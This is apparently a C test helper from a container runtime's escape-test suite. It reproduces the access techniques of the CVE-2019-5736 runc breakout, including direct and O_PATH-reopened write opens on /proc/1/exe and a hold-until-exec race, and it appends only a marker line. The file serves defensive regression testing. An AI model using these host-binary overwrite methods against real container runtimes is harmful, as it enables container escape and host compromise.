/*
 * escprobe: the attacker's side of the escape tests (integration/escapes.rs).
 * Static, so it runs in the busybox rootfs. Built by the tests with
 *
 *     cc -static -O1 -o escprobe escprobe.c
 *
 * Usage:
 *   escprobe euid
 *       Prints "uid=U euid=E": run setuid-root by a non-root user, shows
 *       whether the exec raised the effective uid (no_new_privs test).
 *   escprobe exe-loop SECONDS
 *       For SECONDS, tries again and again to open pid 1's executable
 *       (/proc/1/exe) in every way CVE-2019-5736 used: for reading, for
 *       writing (O_WRONLY|O_APPEND, never truncating), and through an O_PATH
 *       fd re-opened for writing via /proc/self/fd/N. Prints one line per
 *       method: "METHOD ok=N ERRNAME=N ...". A write-open that succeeds
 *       appends a marker, so the test sees the binary change.
 *   escprobe exe-hold SECONDS
 *       Opens /proc/1/exe with O_PATH and keeps the fd; waits (up to SECONDS)
 *       until pid 1 has exec'd something else (its comm is no longer
 *       "husk"), then re-opens the fd for writing via /proc/self/fd/N, as the
 *       original exploit did once the runtime had left, retrying until
 *       SECONDS are up. Prints "hold: ..." and a "reopen-after-exec" tally.
 *
 * Output goes to stdout with a final "done" line. Exit status is 0 unless
 * the usage is wrong: the test reads the lines.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char marker[] = "\nescprobe: husk's binary was written from a container\n";

struct tally {
	const char *name;
	long ok;
	long errors[256];
};

static void count(struct tally *t, int fd)
{
	if (fd >= 0)
		t->ok++;
	else if (errno > 0 && errno < 256)
		t->errors[errno]++;
}

static void print_tally(const struct tally *t)
{
	printf("%s ok=%ld", t->name, t->ok);
	for (int e = 1; e < 256; e++)
		if (t->errors[e])
			printf(" %s=%ld", strerrorname_np(e) ? strerrorname_np(e) : "E?", t->errors[e]);
	printf("\n");
}

static double now(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* A write-open that worked: prove it by writing, then close. */
static void written(int fd)
{
	if (write(fd, marker, sizeof marker - 1) < 0)
		perror("escprobe: write");
	close(fd);
}

static void comm_of_pid1(char *buf, size_t len)
{
	buf[0] = 0;
	int fd = open("/proc/1/comm", O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return;
	ssize_t n = read(fd, buf, len - 1);
	close(fd);
	if (n < 0)
		n = 0;
	buf[n] = 0;
	char *nl = strchr(buf, '\n');
	if (nl)
		*nl = 0;
}

static int reopen_for_writing(int pathfd)
{
	char path[64];
	snprintf(path, sizeof path, "/proc/self/fd/%d", pathfd);
	return open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
}

static int exe_loop(double seconds)
{
	struct tally rd = {"read"}, wr = {"wronly"}, op = {"opath"}, re = {"opath-reopen-wronly"};
	char comm[64];
	comm_of_pid1(comm, sizeof comm);
	printf("pid1-comm=%s\n", comm);
	double end = now() + seconds;
	while (now() < end) {
		int fd = open("/proc/1/exe", O_RDONLY | O_CLOEXEC);
		count(&rd, fd);
		if (fd >= 0)
			close(fd);

		fd = open("/proc/1/exe", O_WRONLY | O_APPEND | O_CLOEXEC);
		count(&wr, fd);
		if (fd >= 0)
			written(fd);

		fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
		count(&op, fd);
		if (fd >= 0) {
			int w = reopen_for_writing(fd);
			count(&re, w);
			if (w >= 0)
				written(w);
			close(fd);
		}
	}
	print_tally(&rd);
	print_tally(&wr);
	print_tally(&op);
	print_tally(&re);
	printf("done\n");
	return 0;
}

static int exe_hold(double seconds)
{
	char comm[64];
	comm_of_pid1(comm, sizeof comm);
	int fd = open("/proc/1/exe", O_PATH | O_CLOEXEC);
	if (fd < 0) {
		printf("hold: %s (pid 1 is %s)\n", strerrorname_np(errno), comm);
		printf("done\n");
		return 0;
	}
	printf("hold: ok (pid 1 is %s)\n", comm);
	fflush(stdout);
	double end = now() + seconds;
	while (now() < end) {
		comm_of_pid1(comm, sizeof comm);
		if (strcmp(comm, "husk") != 0)
			break;
		usleep(2000);
	}
	printf("pid 1 is now %s\n", comm);
	/* The runtime may still be running for a moment (`start` exits just
	 * after the init execs): keep trying until the time is up. */
	struct tally re = {"reopen-after-exec"};
	int w;
	do {
		w = reopen_for_writing(fd);
		count(&re, w);
		if (w < 0)
			usleep(1000);
	} while (w < 0 && now() < end);
	print_tally(&re);
	if (w >= 0)
		written(w);
	printf("done\n");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (argc == 2 && strcmp(argv[1], "euid") == 0) {
		printf("uid=%d euid=%d\n", (int)getuid(), (int)geteuid());
		return 0;
	}
	if (argc == 3 && strcmp(argv[1], "exe-loop") == 0)
		return exe_loop(atof(argv[2]));
	if (argc == 3 && strcmp(argv[1], "exe-hold") == 0)
		return exe_hold(atof(argv[2]));
	fprintf(stderr, "usage: escprobe euid | exe-loop SECONDS | exe-hold SECONDS\n");
	return 2;
}
